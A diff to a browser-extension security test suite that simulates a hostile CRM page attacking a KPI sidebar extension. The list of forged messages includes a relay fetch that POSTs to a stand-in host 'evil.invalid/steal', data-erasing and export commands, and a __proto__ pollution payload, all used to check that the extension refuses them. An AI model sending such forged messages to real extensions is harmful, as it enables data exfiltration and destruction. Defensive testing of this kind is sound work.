@@ -14,6 +14,11 @@ import { RELAY_BITRIX_SESSID, RELAY_FETCH } from '../../lib/connections/relay-pr
 import { QUARANTINE_RAW_LIMIT } from '../../lib/db/schema';
 import { parseRecord, type RecordType } from '../../lib/model';
 import { uiStateKey } from '../../lib/settings/ui-state';
+import { activityCount } from '../../components/sidebar/ActivityCard';
+import { DEMO_EXCHANGE_RATES } from '../../lib/demo';
+import type { KpiData } from '../../lib/kpi/types';
+import { DEFAULT_SETTINGS } from '../../lib/settings/schema';
+import { computePinnedView } from '../../lib/views/pinned';
 import { launchWithExtension, type ExtensionBrowser } from '../harness/chromium';
 import { readSidebar, sidebarFrame, type SidebarReading } from '../harness/sidebar-reader';
 import { readExtensionDb, type DbSnapshot } from '../fixtures/extension-db';
@@ -46,11 +51,13 @@ afterAll(async () => {
 });
 
 type Hostile = {
-  probe: () => Record<string, unknown> & { html: string; polluted: unknown[] };
+  probe: () => Record<string, unknown> & { html: string; polluted: unknown[]; extensionUrlsInTimeline: string[] };
+  embed: (url: string, shapes: unknown[]) => Promise<{ outcome: string; content: string; href: string }>;
   attack: (shapes: unknown[], origin: string) => { hostRect: { left: number; top: number; width: number; height: number }; points: number };
 };
 const hostile = (target: Page) => ({
   probe: () => target.evaluate(() => (window as unknown as { __hostile: Hostile }).__hostile.probe()),
+  embed: (url: string, shapes: unknown[]) => target.evaluate(([address, list]) => (window as unknown as { __hostile: Hostile }).__hostile.embed(address as string, list as unknown[]), [url, shapes] as const),
   attack: (shapes: unknown[], origin: string) => target.evaluate(([list, to]) => (window as unknown as { __hostile: Hostile }).__hostile.attack(list as unknown[], to as string), [shapes, origin] as const),
 });
 
@@ -86,6 +93,28 @@ async function contentScriptWorld(target: Page, extensionId: string): Promise<{ 
 
 const uiState = () => quiet.evaluate((key) => (globalThis as unknown as { chrome: { storage: { local: { get(k: string): Promise<Record<string, unknown>> } } } }).chrome.storage.local.get(key).then((all) => all[key] ?? null), uiStateKey('sandbox'));
 const marginRight = () => page.evaluate(() => document.documentElement.style.getPropertyValue('margin-right'));
+
+/** Every message shape KPI Lens uses (runtime requests, the relay, the toggle), and garbage. */
+const forgedShapes = (crmUrl: string, source: string): unknown[] => [
+  { type: 'page/opened', url: `${crmUrl}/deals` },
+  { type: 'sidebar/toggle' },
+  { type: 'sidebar/toggle', tabId: 0 },
+  { type: RELAY_FETCH, url: `${crmUrl}/api/v1/deals`, method: 'GET', headers: {} },
+  { type: RELAY_FETCH, url: 'http://evil.invalid/steal', method: 'POST', headers: {}, body: 'x' },
+  { type: RELAY_BITRIX_SESSID },
+  { type: 'sync/start', source, full: true },
+  { type: 'status/get' },
+  { type: 'demo/load' },
+  { type: 'data/delete-all' },
+  { type: 'data/erase-everything' },
+  { type: 'data/export-page', table: 'deal', limit: 5_000 },
+  { type: 'import/delete', source: 'csv:x' },
+  { type: 'table/pick', tabId: 0 },
+  { type: 'table/rows', rows: [] },
+  JSON.parse('{"__proto__": {"polluted": "message"}, "type": "sidebar/toggle"}'),
+  null,
+  'sidebar/toggle',
+];
 const stored = (snapshot: DbSnapshot) => Object.values(snapshot.tables).reduce((sum, rows) => sum + rows.length, 0);
 
 describe('a hostile CRM page', () => {
@@ -94,8 +123,6 @@ describe('a hostile CRM page', () => {
     await page.goto(`${crm.url}/deals`);
     expect(await page.locator('#deals tbody tr').count()).toBe(50_000);
     frame = await sidebarFrame(page);
-    shown = await readSidebar(frame);
-    expect(shown.figures['pipeline.total']?.value, 'the sidebar shows numbers on the hostile page').toBeGreaterThan(0);
     await expect.poll(async () => allDone(await readExtensionDb(quiet, source, { statesOnly: true }), served), { timeout: 60_000 }).toBe(true);
 
     const snapshot = await readExtensionDb(quiet, source, { content: true });
@@ -118,6 +145,22 @@ describe('a hostile CRM page', () => {
         expect(Object.prototype.hasOwnProperty.call(row, '__proto__'), 'no own __proto__ key stored').toBe(false);
       }
     }
+    // The sidebar shows the rep's numbers from exactly the records stored (hostile ones included).
+    const data = snapshot.tables as unknown as KpiData;
+    const expectedFigures = async () => {
+      shown = await readSidebar(frame);
+      const view = computePinnedView(data, {
+        settings: { ...DEFAULT_SETTINGS, rates: { ...DEMO_EXCHANGE_RATES }, currentOwner: {} },
+        browserZone: TIME_ZONE,
+        asOf: shown.asOf,
+        scope: { ownerIds: [crm.dataset.currentOwnerId] },
+        period: 'month',
+      });
+      const pipeline = view.pipeline?.status === 'ok' ? view.pipeline.value : null;
+      return [shown.owner, shown.figures['pipeline.total']?.value, shown.figures['activity.call.month']?.value, pipeline, activityCount(view.activities.month, 'call')];
+    };
+    await expect.poll(async () => { const [owner, total, calls, pipeline, expectedCalls] = await expectedFigures(); return owner === crm.dataset.currentOwnerName && total === pipeline && calls === expectedCalls; }, { timeout: 30_000 }).toBe(true);
+    expect(Object.values(shown.figures).some((figure) => (figure.value ?? 0) > 0), 'real numbers on screen').toBe(true);
     const deals = snapshot.tables.deals as { externalId: string; title: string }[];
     expect(deals.map((deal) => deal.title)).toEqual(expect.arrayContaining(['__proto__', 'constructor', 'toString']));
     expect(deals.some((deal) => deal.externalId === '__proto__')).toBe(true);
@@ -148,26 +191,7 @@ describe('a hostile CRM page', () => {
     const pagesBefore = browser.context.pages().length;
     expect(recordsBefore).toBeGreaterThan(1_000);
 
-    const shapes: unknown[] = [
-      { type: 'page/opened', url: `${crm.url}/deals` },
-      { type: 'sidebar/toggle' },
-      { type: 'sidebar/toggle', tabId: 0 },
-      { type: RELAY_FETCH, url: `${crm.url}/api/v1/deals`, method: 'GET', headers: {} },
-      { type: RELAY_FETCH, url: 'http://evil.invalid/steal', method: 'POST', headers: {}, body: 'x' },
-      { type: RELAY_BITRIX_SESSID },
-      { type: 'sync/start', source, full: true },
-      { type: 'status/get' },
-      { type: 'demo/load' },
-      { type: 'data/delete-all' },
-      { type: 'data/erase-everything' },
-      { type: 'data/export-page', table: 'deal', limit: 5_000 },
-      { type: 'import/delete', source: 'csv:x' },
-      { type: 'table/pick', tabId: 0 },
-      { type: 'table/rows', rows: [] },
-      JSON.parse('{"__proto__": {"polluted": "message"}, "type": "sidebar/toggle"}'),
-      null,
-      'sidebar/toggle',
-    ];
+    const shapes = forgedShapes(crm.url, source);
     const { hostRect, points } = await hostile(page).attack(shapes, origin);
     expect(points).toBeGreaterThan(10);
     await page.waitForTimeout(3_000);
@@ -182,7 +206,7 @@ describe('a hostile CRM page', () => {
 
     // The page read nothing of the sidebar: no shadow root, no frame, no URL, no message, none of its text.
     const probe = await hostile(page).probe();
-    expect(probe).toMatchObject({ host: true, shadowRoot: false, childNodes: 0, iframesInDocument: 0, frames: [], reattach: 'refused: NotSupportedError', capturedRoots: [], iframes: [], frameUrls: [], extensionMessages: [], runtimeSendMessage: 'undefined' });
+    expect(probe).toMatchObject({ host: true, shadowRoot: false, childNodes: 0, iframesInDocument: 0, frames: [], reattach: 'refused: NotSupportedError', capturedRoots: [], iframes: [], frameUrls: [], extensionMessages: [], runtimeSendMessage: 'undefined', extensionUrlsInTimeline: [] });
     expect(probe.forgedMessagesSeen).toBeGreaterThan(shapes.length); // the forged traffic did happen
     const sidebarText = await frame.evaluate(() => document.body.innerText);
     expect(sidebarText.length).toBeGreaterThan(50);
@@ -198,6 +222,22 @@ describe('a hostile CRM page', () => {
       await page.mouse.click(rect.left + 9, rect.top + rect.height * 0.4 + 42);
       await expect.poll(async () => ((await uiState()) as { open?: boolean } | null)?.open, { timeout: 10_000 }).toBe(open);
     }
+  });
+
+  it('a page that frames the sidebar page itself reads nothing of it, and posting into it starts nothing', async () => {
+    const requestsBefore = crm.apiRequests();
+    const stateBefore = await uiState();
+    const recordsBefore = stored(await readExtensionDb(quiet, source));
+    const url = `chrome-extension://${browser.extensionId}/sidebar.html?source=${encodeURIComponent(source)}`;
+    const result = await hostile(page).embed(url, forgedShapes(crm.url, source));
+    // Loaded (the sidebar page is web-accessible on CRM pages), but opaque: no document, no location.
+    expect(result).toEqual({ outcome: 'loaded', content: 'none', href: 'refused: SecurityError' });
+    expect(page.frames().some((candidate) => candidate.parentFrame() === page.mainFrame() && candidate.url().startsWith(url.split('?')[0]!))).toBe(true);
+    await page.waitForTimeout(3_000);
+    expect(crm.apiRequests()).toEqual(requestsBefore);
+    expect(await uiState()).toEqual(stateBefore);
+    expect(stored(await readExtensionDb(quiet, source))).toBe(recordsBefore);
+    await page.evaluate(() => document.getElementById('hostile-own-sidebar')?.remove());
   });
 
   it('refuses privileged requests sent from the content script’s own world', async () => {
